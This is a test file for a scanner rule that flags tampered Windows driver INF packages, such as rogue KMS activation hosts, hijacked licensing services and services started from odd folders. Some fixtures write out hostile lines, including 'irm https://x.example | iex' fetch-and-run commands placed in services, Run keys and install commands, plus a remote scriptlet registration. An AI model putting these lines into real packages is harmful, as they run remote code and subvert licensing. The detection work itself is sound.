// Driver packages: what their services, values, commands and copied files would do; and packages of honest vendors.
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'uvu';
import { driverPackage } from '../../../rules/activation/driver-package.ts';
import type { FakeSpec } from '../../helpers/fake-image.ts';
import { infText } from '../../helpers/inf-text.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const PATH = '/Windows/System32/DriverStore/FileRepository/corp.inf_amd64_0011223344556677/corp.inf';
const image = (lines: readonly string[], path = PATH): FakeSpec => ({
  files: { [path]: ['[Version]', 'Signature="$WINDOWS NT$"', ...lines, ''].join('\r\n') },
});
/** The first entry of the service stands in line 6. */
const service = (entries: readonly string[], more: readonly string[] = [], name = 'Corp'): readonly string[] => [
  '[Install.NTamd64.Services]',
  `AddService = ${name},,S`,
  '[S]',
  ...entries,
  ...more,
];
const program = (binary: string, start = 2, type = '0x10') => [
  `ServiceBinary = ${binary}`,
  `ServiceType = ${type}`,
  `StartType = ${start}`,
];
const values = (...lines: readonly string[]) => ['[Install]', 'AddReg = R', '[R]', ...lines];
const at = (line: number, file = PATH) => ({ file, line });
const policy = { kmsHosts: ['kms.corp.example'] };
const WINE = '/usr/share/wine/wine.inf';
const OPTIONS = 'HKLM,"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion';

/** Where programs of vendors lie. */
const HOMES = [
  String.raw`%11%\agent.exe|%13%\agent.exe|%16422%\Vendor\agent.exe|"%16426%\Vendor\agent.exe" -service`,
  String.raw`%10%\agent.exe|"%%ProgramFiles%%\Vendor\agent.exe"|system32\agent.exe|agent.exe`,
  String.raw`"%%SystemRoot%%\system32\svchost.exe -k vendor"|%%windir%%\system32\agent.exe|%%SystemDrive%%\Windows\System32\agent.exe|\SystemRoot\System32\agent.exe`,
  String.raw`"%%ProgramW6432%%\Vendor\agent.exe"|%%CommonProgramFiles%%\Vendor\agent.exe`,
].flatMap((row) => row.split('|'));
/** Folders that no driver package puts a program into. */
const OUTSIDE = [
  String.raw`%24%\Tools\agent.exe|%16419%\Agent\agent.exe|"%53%\agent.exe" -s|%10%\Setup\Scripts\agent.exe|%10%\Tasks\agent.exe`,
  String.raw`%10%\debug\agent.exe|%10%\tracing\agent.exe|%%SystemRoot%%\Tasks\agent.exe|%%windir%%\Tasks\agent.exe|%%CORP%%\agent.exe`,
  String.raw`\agent.exe`,
].flatMap((row) => row.split('|'));

windowsRuleTester(driverPackage, {
  good: [
    {
      name: 'a network driver',
      image: { files: { [PATH]: infText(), '/drivers/net/net.inf': Buffer.from(`\ufeff${infText()}`, 'utf16le') } },
    },
    ...HOMES.map((binary) => ({ name: `a program of a vendor at ${binary}`, image: image(service(program(binary))) })),
    { name: 'a driver outside of Windows, which is no program', image: image(service(program('%24%\\x\\filter.sys', 0, '2'))) },
    {
      name: 'what a device writes below its own keys, and numbers that are no port',
      image: image([
        ...service(program('%12%\\net.sys', 3, '1'), [
          'AddReg = P',
          '[P]',
          'HKR,Parameters,Buffers,0x10001,1688',
          'HKR,Parameters,PortCount,0x10001,2',
        ]),
        ...values(
          'HKR,Ndi\\params\\x,ParamDesc,,"Power"',
          'HKLM,Software\\Microsoft\\Windows\\CurrentVersion\\Run,Panel,,"%16422%\\Vendor\\panel.exe /tray"',
        ),
      ]),
    },
    {
      name: 'the right host, options of another program, files of its own',
      policy,
      image: image([
        ...values(
          `${OPTIONS}\\SoftwareProtectionPlatform",KeyManagementServiceName,,"kms.corp.example"`,
          `${OPTIONS}\\Image File Execution Options\\tool.exe",Debugger,,"x.exe"`,
        ),
        '[Copy]',
        'CopyFiles = F',
        '[F]',
        'mysppc.dll',
        'hosts.txt',
        '[DestinationDirs]',
        'DefaultDestDir = 11',
      ]),
    },
    {
      name: 'a program of a software component, libraries to register',
      image: image([
        '[A.Software]',
        'AddSoftware = t,,T',
        'RegisterDlls = D',
        '[T]',
        'SoftwareBinary = %13%\\setup.exe',
        '[D]',
        '%11%\\panel.dll,,3',
      ]),
    },
    {
      name: 'files of that name that are none: empty, binary, a delta, of a disc',
      image: {
        files: {
          '/Windows/WinSxS/x/f/a.inf': 'PA30 delta',
          '/a/empty.inf': '',
          '/a/binary.inf': Buffer.from([0x4d, 0x5a, 0, 0]),
          '/autorun.inf': '[autorun]\r\nopen=setup.exe\r\n',
          '/a/folder.inf': { folder: true, unreadable: 'is a folder' },
        },
      },
    },
    ...(existsSync(WINE)
      ? [{ name: 'that of Wine, with its twenty services', image: { files: { '/Program Files/wine/wine.inf': readFileSync(WINE) } } }]
      : []),
  ],
  bad: [
    ...OUTSIDE.map((binary) => ({
      name: `a program from outside: ${binary}`,
      image: image(service(program(binary))),
      findings: [{ messageId: 'outside', at: at(6), level: 'strong' as const }],
    })),
    ...[
      '%10%\\Temp\\agent.exe',
      '%%SystemDrive%%\\Windows\\Temp\\agent.exe',
      '%%windir%%\\Temp\\agent.exe',
      '%%SystemDrive%%\\Windows\\debug\\a.exe',
    ].map((binary) => ({
      name: `a program on demand from a folder for data below Windows: ${binary}`,
      image: image(service(program(binary, 3))),
      findings: [{ messageId: 'outside', at: at(6), level: 'weak' as const }],
    })),
    {
      name: 'the same on demand, and by another type',
      image: image(service(program('%24%\\Tools\\agent.exe', 3, '0x110'))),
      findings: [{ messageId: 'outside', at: at(6), level: 'weak' as const }],
    },
    ...[
      'cmd.exe /c C:\\x.cmd',
      '%11%\\WindowsPowerShell\\v1.0\\powershell.exe -File x',
      '"%11%\\wscript.exe" x.vbs',
      '%13%\\start.cmd',
    ].map((binary) => ({
      name: `a shell or script as a service: ${binary}`,
      image: image(service(program(binary, 3))),
      findings: [{ messageId: 'interpreter', at: at(6) }],
    })),
    {
      name: 'a shell whose name the strings put together',
      image: image([...service(program('%11%\\%a%%b%.exe /c x', 3)), '[Strings]', 'a = "c"', 'b = "md"']),
      findings: [{ messageId: 'interpreter', at: at(6) }],
    },
    {
      name: 'a listener at the port of activation',
      image: image(service(program('%11%\\relay.exe -l 0.0.0.0 -p 1688'))),
      findings: [{ messageId: 'listens', at: at(6) }],
    },
    {
      name: 'a driver that is told the port, as a number and in a text; a program that is told it',
      image: image([
        ...service(program('%12%\\filter.sys', 1, '1'), ['AddReg = P', '[P]', 'HKR,Parameters,RedirectPort,0x10001,0x698']),
        '[B.Services]',
        'AddService = B,,B',
        'AddService = C,,C',
        '[B]',
        'ServiceType = 2',
        'AddReg = Q',
        'ServiceBinary = %12%\\b.sys',
        '[Q]',
        'HKR,Parameters,Bind,,"127.0.0.1:1688"',
        '[C]',
        'ServiceType = 0x10',
        'ServiceBinary = %11%\\c.exe',
        'AddReg = Q',
      ]),
      findings: [
        { messageId: 'redirects', at: at(6), evidence: 'redirectport = 1688' },
        { messageId: 'redirects', at: at(18) },
        { messageId: 'port', at: at(23), level: 'weak' as const },
      ],
    },
    {
      name: 'settings of an emulator',
      image: image(service(program('%11%\\relay.exe'), ['AddReg = P', '[P]', 'HKR,Parameters,KMSPID,,x', 'HKR,Parameters,KMSHWID,,x'])),
      findings: [{ messageId: 'settings', at: at(6), level: 'certain' as const }],
    },
    {
      name: 'the licensing service replaced and switched off, another library for it',
      image: image(service(program('%11%\\other.exe', 4), ['AddReg = P', '[P]', 'HKR,Parameters,ServiceDll,,x.dll'], 'sppsvc')),
      findings: [
        { messageId: 'replaced', at: at(6) },
        { messageId: 'disabled', at: at(6) },
        { messageId: 'library', at: at(6) },
      ],
    },
    {
      name: 'what a service runs when it fails, and one that fetches',
      policy,
      image: image([
        ...service(program('%11%\\a.exe'), ['AddReg = P', '[P]', 'HKR,,FailureCommand,,"cscript slmgr.vbs /skms 127.0.0.2"']),
        '[B.Services]',
        'AddService = B,,B',
        '[B]',
        'ServiceBinary = "powershell -c ""irm https://x.example | iex"""',
      ]),
      findings: [
        { messageId: 'activates', at: at(6), level: 'certain' as const },
        { messageId: 'fetches', at: at(15) },
      ],
    },
    {
      name: 'a service of Windows that only values change',
      image: image(values('HKLM,SYSTEM\\CurrentControlSet\\Services\\sppsvc,ImagePath,,"C:\\x.exe"')),
      findings: [{ messageId: 'replaced', at: at(6) }],
    },
    {
      name: 'a start from the temporary folder is told once',
      image: image(service(program('%10%\\Temp\\a.exe'))),
      findings: [{ messageId: 'fromData', at: at(6), level: 'weak' as const }],
    },
    {
      name: 'values that hijack, point to a host, redirect, and look away',
      policy,
      image: image(
        values(
          `${OPTIONS}\\Image File Execution Options\\SppExtComObj.exe",Debugger,,"x.exe"`,
          `${OPTIONS}\\SoftwareProtectionPlatform",KeyManagementServiceName,,"kms.evil.example"`,
          `${OPTIONS}\\SoftwareProtectionPlatform\\55c92734",KeyManagementServiceName,1,31,00,32,00,37,00,2e,00,30,00,2e,00,30,00,2e,00,32,00`,
          'HKLM,SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp,"127.0.0.1/1688",,"10.0.0.9/1688"',
        ),
      ),
      findings: [
        { messageId: 'writes', at: at(6), level: 'certain' as const },
        { messageId: 'writes', at: at(7), level: 'strong' as const },
        { messageId: 'writes', at: at(8), level: 'certain' as const },
        { messageId: 'writes', at: at(9), level: 'strong' as const },
      ],
    },
    {
      name: 'a start that activates, and one that fetches',
      policy,
      image: image(
        values(
          'HKLM,Software\\Microsoft\\Windows\\CurrentVersion\\Run,A,,"cmd /c s^lmgr.vbs /skms kms.evil.example"',
          'HKLM,Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce,B,,"powershell -c ""irm https://x.example | iex"""',
        ),
      ),
      findings: [
        { messageId: 'starts', at: at(6), says: 'kms.evil.example' },
        { messageId: 'starts', at: at(7), says: 'fetches' },
      ],
    },
    {
      name: 'commands of the installation, a component that fetches, a scriptlet to register',
      policy,
      image: image([
        '[DefaultInstall]',
        'RunPostSetupCommands = C',
        'UnRegisterOCXs = D',
        '[A.Software]',
        'AddSoftware = t,,T',
        '[C]',
        'cscript slmgr.vbs /skms 127.0.0.2',
        '[D]',
        '%11%\\scrobj.dll,NI,https://x.example/a.sct',
        '[T]',
        'SoftwareBinary = powershell.exe',
        'SoftwareArguments = "-c iex (irm https://x.example)"',
      ]),
      findings: [
        { messageId: 'command', at: at(9), level: 'certain' as const },
        { messageId: 'command', at: at(11), says: 'fetches' },
        { messageId: 'command', at: at(7), says: 'fetches' },
      ],
    },
    ...[
      ...'sppc sppcext slc slcext sppobjs sppwinob osppc osppcext osppobjs pidgenx clipc'.split(' ').map((name) => ['11', `${name}.dll`]),
      ...'sppsvc SppExtComObj osppsvc slsvc slui clipup'.split(' ').map((name) => ['11', `${name}.exe`]),
      ['11,spp\\store\\2.0', 'tokens.dat'],
      ['11,spp\\tokens\\skus', 'a.xrm-ms'],
      ['16419,Microsoft\\Windows\\ClipSVC\\GenuineTicket', 'a.xml'],
    ].map(([folder, file]) => ({
      name: `a file in the place of one of licensing: ${folder} ${file}`,
      image: image(['[A]', 'CopyFiles = F', '[F]', file!, '[DestinationDirs]', `F = ${folder}`]),
      findings: [{ messageId: 'copies', at: at(6) }],
    })),
    {
      name: 'an INF wherever it lies, and one that cannot be read to its end',
      image: {
        files: {
          '/$OEM$/$1/Drivers/a.inf': '[A]\r\nAddService=a,,S\r\n[S]\r\nServiceType=16\r\nStartType=2\r\nServiceBinary=%24%\\a.exe\r\n',
          '/b.inf': `[A]\r\n${'x'.repeat(70_000)}`,
        },
      },
      findings: [{ messageId: 'outside', at: at(6, '/$OEM$/$1/Drivers/a.inf') }],
      unable: '/b.inf: INF: line 2 is longer',
    },
  ],
});

test.run();
